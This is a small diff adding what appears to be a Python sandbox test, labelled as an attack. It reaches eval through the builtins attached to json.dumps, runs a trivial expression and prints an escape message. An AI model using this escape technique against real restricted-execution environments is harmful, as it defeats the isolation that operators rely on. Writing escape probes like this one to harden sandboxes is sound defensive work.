@@ -1,0 +1,8 @@
+# attack: the __builtins__ of a trusted function are the unrestricted ones
+# stopped by: nothing or AttributeError
+import json
+
+b = json.dumps.__builtins__
+b = b if isinstance(b, dict) else vars(b)
+if "eval" in b and b["eval"]("1+1") == 2:
+    print("ESCAPED eval through json.dumps.__builtins__")
